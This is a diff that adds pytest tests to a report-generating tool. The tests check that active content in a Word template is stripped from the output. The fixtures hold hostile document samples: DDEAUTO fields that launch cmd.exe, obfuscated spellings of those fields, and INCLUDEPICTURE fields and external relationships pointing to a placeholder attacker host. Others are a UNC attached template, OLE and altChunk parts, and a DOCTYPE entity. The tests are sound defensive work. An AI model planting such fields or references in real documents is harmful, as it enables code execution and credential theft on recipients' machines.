@@ -169,3 +169,145 @@ def test_the_body_names_no_software_and_differences_are_points(result12):
     assert "selisih -" not in body
     note = document.paragraphs[cover_note]
     assert all(run.font.highlight_color is not None for run in note.runs)  # not to be printed
+
+
+# Active content in a template (issue 33): every spelling of it, removed on the parsed tree --------------
+
+W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
+
+
+def _run(text: str, instr: bool = False) -> str:
+    tag = "w:instrText" if instr else "w:t"
+    return f'<w:r><{tag} xml:space="preserve">{text}</{tag}></w:r>'
+
+
+def _fld(kind: str) -> str:
+    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'
+
+
+HOSTILE_BODY = {
+    "dde terbelah": "<w:p>" + _fld("begin") + _run(" DDE", True) + _run('AUTO c:\\\\windows\\\\system32\\\\cmd.exe '
+                    '"/k calc"', True) + _fld("separate") + _run("teks lama") + _fld("end") + "</w:p>",
+    "dde rujukan karakter": "<w:p>" + _fld("begin") + _run(" &#68;DEAUTO cmd \"/c calc\"", True) + _fld("end") + "</w:p>",
+    "dde fldSimple": '<w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/c calc&quot;">' + _run("tampil") + "</w:fldSimple></w:p>",
+    "includepicture unc terbelah": "<w:p>" + _fld("begin") + _run(" INCLUDEPIC", True) + _run('TURE "\\\\\\\\penyerang'
+                                   '\\\\berbagi\\\\a.png" \\\\d', True) + _fld("separate") + _fld("end") + "</w:p>",
+}
+
+
+def _hostile_template(path: Path, body: str = "", rels: str = "", settings_rels: str = "", extra: dict | None = None,
+                      settings: str = "", encode=None):
+    base = io.BytesIO()
+    docx.Document().save(base)
+    src = zipfile.ZipFile(base)
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dest:
+        for item in src.infolist():
+            data = src.read(item.filename)
+            if item.filename == "word/document.xml":
+                data = data.replace(b"<w:body>", b"<w:body>" + body.encode(), 1)
+                if encode:
+                    data = encode(data)
+            if item.filename == "word/_rels/document.xml.rels" and rels:
+                data = data.replace(b"</Relationships>", rels.encode() + b"</Relationships>")
+            if item.filename == "word/settings.xml" and settings:
+                data = data.replace(b"<w:zoom", settings.encode() + b"<w:zoom", 1)
+            dest.writestr(item, data)
+        if settings_rels:
+            dest.writestr("word/_rels/settings.xml.rels",
+                          '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
+                          f'openxmlformats.org/package/2006/relationships">{settings_rels}</Relationships>')
+        for name, data in (extra or {}).items():
+            dest.writestr(name, data)
+
+
+def _draft_parts(folder: Path) -> dict[str, bytes]:
+    out = zipfile.ZipFile(io.BytesIO(report_bytes(analyse(folder, 12), folder)))
+    parts = {n: out.read(n) for n in out.namelist()}
+    docx.Document(io.BytesIO(report_bytes(analyse(folder, 12), folder)))  # it opens
+    return parts
+
+
+def _instructions(parts: dict[str, bytes]) -> list[str]:
+    from lxml import etree
+
+    w = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
+    found = []
+    for name, data in parts.items():
+        if name.startswith("word/") and name.endswith(".xml"):
+            root = etree.fromstring(data)
+            found += [t.text or "" for t in root.iter(f"{w}instrText")]
+            found += [e.get(f"{w}instr") or "" for e in root.iter(f"{w}fldSimple")]
+    return found
+
+
+@pytest.mark.parametrize("case", list(HOSTILE_BODY))
+def test_a_field_that_fetches_or_runs_is_emptied_however_it_is_written(example_copy, case):
+    _hostile_template(example_copy / "templat_laporan.docx", HOSTILE_BODY[case])
+    parts = _draft_parts(example_copy)
+    joined = " ".join(_instructions(parts)).upper()
+    assert "DDE" not in joined and "INCLUDEPICTURE" not in joined and "PENYERANG" not in joined, joined
+    assert any(i.strip().upper().startswith("TOC") for i in _instructions(parts))  # our own fields stay
+
+
+RELS = {
+    "petik tunggal": "<Relationship Id='rIdX' Type='http://schemas.openxmlformats.org/officeDocument/2006/"
+                     "relationships/image' Target='http://penyerang.invalid/a.png' TargetMode='External'/>",
+    "tag penutup": '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+                   'hyperlink" Target="file://penyerang.invalid/x" TargetMode="External"></Relationship>',
+    "huruf kecil": '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+                   'image" Target="\\\\penyerang.invalid\\a.png" TargetMode="external"/>',
+}
+
+
+@pytest.mark.parametrize("case", list(RELS))
+def test_an_external_relationship_of_any_spelling_is_removed(example_copy, case):
+    body = ('<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
+            'wordprocessingDrawing"><wp:extent cx="10" cy="10"/><wp:docPr id="9" name="x"/><a:graphic '
+            'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.'
+            'openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/'
+            'drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="9" name="x"/><pic:cNvPicPr/></pic:nvPicPr>'
+            '<pic:blipFill><a:blip r:link="rIdX"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic>'
+            '</wp:inline></w:drawing></w:r></w:p>')
+    _hostile_template(example_copy / "templat_laporan.docx", body, rels=RELS[case])
+    parts = _draft_parts(example_copy)
+    everything = b"".join(v for k, v in parts.items() if k.endswith((".rels", ".xml"))).lower()
+    assert b"penyerang" not in everything and b"external" not in everything
+    assert b'r:link="ridx"' not in everything  # no dangling reference to the removed relationship
+
+
+def test_an_attached_template_on_a_unc_path_altchunk_and_ole_are_not_carried(example_copy):
+    rels = ('<Relationship Id="rIdC" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" '
+            'Target="afchunk.mht"/><Relationship Id="rIdO" Type="http://schemas.openxmlformats.org/officeDocument/'
+            '2006/relationships/oleObject" Target="embeddings/oleObject1.bin"/>')
+    body = ('<w:altChunk r:id="rIdC"/><w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:'
+            'office" Type="Embed" ProgID="Package" r:id="rIdO"/></w:object></w:r></w:p>')
+    _hostile_template(example_copy / "templat_laporan.docx", body, rels=rels,
+                      settings='<w:attachedTemplate r:id="rIdT"/>',
+                      settings_rels='<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/'
+                                    '2006/relationships/attachedTemplate" Target="\\\\penyerang\\t.dotm"/>',
+                      extra={"word/afchunk.mht": b"MIME-Version: 1.0\r\n\r\n<script>x</script>",
+                             "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 package"})
+    parts = _draft_parts(example_copy)
+    assert not [n for n in parts if "embeddings" in n or "afchunk" in n.lower()]
+    everything = b"".join(v for k, v in parts.items() if k.endswith((".rels", ".xml")))
+    for word in (b"altChunk", b"OLEObject", b"attachedTemplate", b"penyerang", b"aFChunk", b"oleObject"):
+        assert word not in everything, word
+
+
+def test_a_doctype_in_a_template_is_refused_with_a_message(example_copy, tmp_path):
+    _hostile_template(example_copy / "templat_laporan.docx",
+                      encode=lambda data: data.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY e "x">]>', 1))
+    r = CliRunner().invoke(main, ["laporan", str(example_copy), "--output", str(tmp_path / "out")])
+    assert r.exit_code == 1 and "DOCTYPE" in r.output and "templat_laporan.docx" in r.output, r.output
+    assert "Traceback" not in r.output and not list((tmp_path / "out").rglob("*.docx"))
+
+
+def test_a_template_part_in_utf16_is_read(example_copy):
+    def utf16(data: bytes) -> bytes:
+        text = data.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
+        return text.encode("utf-16")
+
+    _hostile_template(example_copy / "templat_laporan.docx", "<w:p>" + _run("Kop Kecamatan") + "</w:p>", encode=utf16)
+    parts = _draft_parts(example_copy)
+    assert b"Kop Kecamatan" in parts["word/document.xml"]
